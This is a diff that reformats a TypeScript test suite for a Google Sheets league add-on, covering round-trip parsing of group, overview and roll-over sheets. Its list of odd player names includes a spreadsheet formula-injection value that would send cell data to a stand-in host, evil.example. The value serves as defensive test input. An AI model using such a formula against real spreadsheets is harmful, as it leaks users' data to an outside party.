@@ -23,8 +23,9 @@ import { createTorresGroups, readTorresOverview } from './endpoints';
 import { MAX_GROUP_SIZE } from './input';
 import { asGames, scheduledGames, seasonPoints, typePoints } from './testHelpers';
 
-const ODD = ['TRUE', '007', "'Tis", '=1+1', '=HYPERLINK("http://evil.example/?"&A2,"x")', '1850', 'O\'Neil'];
-const names = (prefix: string, n: number): string[] => Array.from({ length: n }, (_, i) => (prefix === '' && i < ODD.length ? ODD[i] : `${prefix || 'P'}${i + 1}`));
+const ODD = ['TRUE', '007', "'Tis", '=1+1', '=HYPERLINK("http://evil.example/?"&A2,"x")', '1850', "O'Neil"];
+const names = (prefix: string, n: number): string[] =>
+  Array.from({ length: n }, (_, i) => (prefix === '' && i < ODD.length ? ODD[i] : `${prefix || 'P'}${i + 1}`));
 
 function season(sizes: number[], leagues?: number[]): TorresSeason {
   return {
@@ -55,7 +56,13 @@ describe('round trip: the group sheet', () => {
       vpByPlace: [8, 4, 2, 1],
       eloOrder: 'high',
       games: spec.games.map((g) => g.map((p, seat) => ({ seat, name: spec.players[p], points: null, typed: false }))),
-      roster: spec.players.map((name, i) => ({ name, ...(spec.elo[name] !== undefined ? { elo: spec.elo[name] } : {}), withdrawn: false, status: '', row: GROUP.firstGameRow + i })),
+      roster: spec.players.map((name, i) => ({
+        name,
+        ...(spec.elo[name] !== undefined ? { elo: spec.elo[name] } : {}),
+        withdrawn: false,
+        status: '',
+        row: GROUP.firstGameRow + i,
+      })),
       fictitious: [],
       entered: 0,
     });
@@ -66,35 +73,49 @@ describe('round trip: the group sheet', () => {
     const [spec] = groupSpecs(season([4]));
     const sheet = applyPlan(asSpreadsheet(gas), buildTorresGroupPlan(spec, 'G'));
     const games = scheduledGames(gas.book.sheet('G'), spec.games.length);
-    typePoints(gas.book.sheet('G'), [[100, 'D 95', 90, 80], ['9O', 1, 2, 3]]);
+    typePoints(gas.book.sheet('G'), [
+      [100, 'D 95', 90, 80],
+      ['9O', 1, 2, 3],
+    ]);
     const { group, problems } = parseGroupSheet(readSheet(sheet));
-    expect(group!.games[0].map((s) => [s.name, s.points])).toEqual([[games[0][0], 100], [games[0][1], { delayed: 95 }], [games[0][2], 90], [games[0][3], 80]]);
+    expect(group!.games[0].map((s) => [s.name, s.points])).toEqual([
+      [games[0][0], 100],
+      [games[0][1], { delayed: 95 }],
+      [games[0][2], 90],
+      [games[0][3], 80],
+    ]);
     expect(group!.entered).toBe(8);
-    expect(problems).toEqual([`Cell 'G'!C${GROUP.firstGameRow + 1}: "9O" is not points; type the particular points (a whole number), or D and the score at the last completed year (D 95).`]);
+    expect(problems).toEqual([
+      `Cell 'G'!C${GROUP.firstGameRow + 1}: "9O" is not points; type the particular points (a whole number), or D and the score at the last completed year (D 95).`,
+    ]);
   });
 
-  it('a sheet without the add-on\'s record is refused', () => {
+  it("a sheet without the add-on's record is refused", () => {
     const gas = installFakeGas();
     const sheet = asSpreadsheet(gas).insertSheet('Mine');
     sheet.addDeveloperMetadata(ADDON_KIND_KEY, TORRES_GROUP.kind);
-    expect(parseGroupSheet(readSheet(sheet)).problems).toEqual(['"Mine" is not a TORRES group sheet made by the add-on (its record of league, group and players is missing).']);
+    expect(parseGroupSheet(readSheet(sheet)).problems).toEqual([
+      '"Mine" is not a TORRES group sheet made by the add-on (its record of league, group and players is missing).',
+    ]);
   });
 
-  it('the number of games the parser reads is the schedule\'s, for every accepted size', () => {
+  it("the number of games the parser reads is the schedule's, for every accepted size", () => {
     for (let v = 3; v <= MAX_GROUP_SIZE; v++) expect([v, scheduledGameCount(v)]).toEqual([v, torresSchedule(v, `s${v}`).games.length]);
   });
 });
 
 describe('round trip: the league overview', () => {
   const championship = (leagues: number): TorresSeason => {
-    const groups = Array.from({ length: leagues }, (_, k) => Array.from({ length: leagueGroups(k + 1) }, (_, g) => ({ league: k + 1, group: g + 1, players: names(`p${k + 1}-${g + 1}-`, 10) }))).flat();
+    const groups = Array.from({ length: leagues }, (_, k) =>
+      Array.from({ length: leagueGroups(k + 1) }, (_, g) => ({ league: k + 1, group: g + 1, players: names(`p${k + 1}-${g + 1}-`, 10) })),
+    ).flat();
     return { ...season([]), groups };
   };
 
   it.each([
     ['1 group of 3', { ...season([3]) }],
     ['6 leagues, 63 groups', championship(6)],
-  ])('%s: the title, leagues and every group\'s block come back', (_, s) => {
+  ])("%s: the title, leagues and every group's block come back", (_, s) => {
     const gas = installFakeGas();
     const specs = groupSpecs(s);
     const sheetNames = specs.map((g) => `S L${g.league} G${g.group}`);
@@ -121,7 +142,10 @@ describe('round trip: the roll-over sheet', () => {
     const previous = Array.from({ length: 6 }, (_, k) =>
       Array.from({ length: leagueGroups(k + 1) }, (_, g) => ({ league: k + 1, group: g + 1, players: names(`p${k + 1}-${g + 1}-`, 10) })),
     ).flat();
-    return rollOver({ previous, newPlayers: names('n', 30).map((name, i) => ({ name, elo: 1500 + i })), unregistered: ['p2-1-3'], withdrawn: ['p3-2-9'] }, 'big');
+    return rollOver(
+      { previous, newPlayers: names('n', 30).map((name, i) => ({ name, elo: 1500 + i })), unregistered: ['p2-1-3'], withdrawn: ['p3-2-9'] },
+      'big',
+    );
   };
   const small = () => rollOver({ previous: [{ league: 1, group: 1, players: names('', 3) }], newPlayers: [] }, 'small');
 
@@ -137,7 +161,8 @@ describe('round trip: the roll-over sheet', () => {
     expect(grid.kind).toBe(TORRES_ROLLOVER.kind);
     const { rollOver: parsed, problems } = parseRollOver(grid);
     expect(problems).toEqual([]);
-    const where = (p?: { league: number; group: number; place?: number }) => (p ? `L${p.league} G${p.group}${p.place !== undefined ? ` #${p.place}` : ''}` : '');
+    const where = (p?: { league: number; group: number; place?: number }) =>
+      p ? `L${p.league} G${p.group}${p.place !== undefined ? ` #${p.place}` : ''}` : '';
     expect(parsed).toEqual({
       title: '=S2',
       seed: result.seed,
@@ -148,7 +173,7 @@ describe('round trip: the roll-over sheet', () => {
 });
 
 describe('reading a season for the roll-over', () => {
-  it('recomputes the standings from the typed games: TORRESRANK\'s cells are never read', () => {
+  it("recomputes the standings from the typed games: TORRESRANK's cells are never read", () => {
     const gas = installFakeGas();
     createTorresGroups({ title: 'S', groups: [names('', 4), names('B', 5)], seed: 'rb', elo: [{ name: 'TRUE', elo: 1500 }] });
     const expected = ['S L1', 'S L2'].map((name) => {
@@ -158,7 +183,9 @@ describe('reading a season for the roll-over', () => {
       typePoints(sheet, points);
       // Sheets has not computed the custom function yet: its cell shows "Loading…" and nothing spills.
       sheet.getRange(GROUP.headerRow, GROUP.standingsColumn).setValue('Loading…');
-      return torresStandings(names(name === 'S L1' ? '' : 'B', name === 'S L1' ? 4 : 5), asGames(games, points), { elo: new Map(name === 'S L1' ? [['TRUE', 1500]] : []) });
+      return torresStandings(names(name === 'S L1' ? '' : 'B', name === 'S L1' ? 4 : 5), asGames(games, points), {
+        elo: new Map(name === 'S L1' ? [['TRUE', 1500]] : []),
+      });
     });
     const read = readTorresOverview({ sheet: 'S leagues' });
     expect(read.previous).toEqual(
